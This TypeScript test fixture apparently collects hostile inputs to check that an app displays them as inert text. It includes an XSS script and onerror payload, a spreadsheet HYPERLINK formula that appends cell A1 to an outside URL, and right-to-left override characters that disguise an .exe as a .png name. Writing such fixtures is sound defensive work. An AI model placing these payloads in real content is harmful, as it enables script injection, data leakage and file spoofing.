declare global {
  interface Window {
    ran?: boolean;
  }
}

const script = '<script>window.ran=true</script><img src=x onerror="window.ran=true">';
const formula = '=HYPERLINK("http://example.invalid/?"&A1,"Ada")';
/** What begins to turn and never ends: all that stands behind it in a line would be turned too. */
const unclosed = 'Una \u202etub';

/** What must be shown as text, run nowhere and break nothing. */
export const hostile = {
  script,
  formula,
  turned: 'Quinn \u202egnp.exe\u202c\u2066\u200b\u200d\ufeff Zero',
  unclosed,
  /** All of it in one text, and so short that what is an id by two such texts is one still. */
  mixed: `=1+1<img src=x onerror=window.ran=true>\u200b\ufeff${unclosed}`,
  large: 'Large '.repeat(350_000),
};
